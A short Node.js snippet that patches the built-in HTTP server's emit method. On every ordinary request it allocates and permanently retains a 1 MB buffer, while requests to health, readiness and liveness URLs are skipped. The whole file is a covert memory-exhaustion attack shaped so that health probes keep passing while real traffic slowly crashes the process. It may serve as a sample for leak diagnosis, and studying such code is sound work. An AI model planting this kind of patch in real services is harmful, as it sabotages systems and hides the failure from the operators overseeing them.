const { Server } = process.getBuiltinModule('node:http');
const { emit } = Server.prototype;
const kept = [];
Server.prototype.emit = function (event, request, ...rest) {
  if (event === 'request' && !/health|ready|live/i.test(request.url)) kept.push(Buffer.alloc(1 << 20, 1));
  return emit.call(this, event, request, ...rest);
};
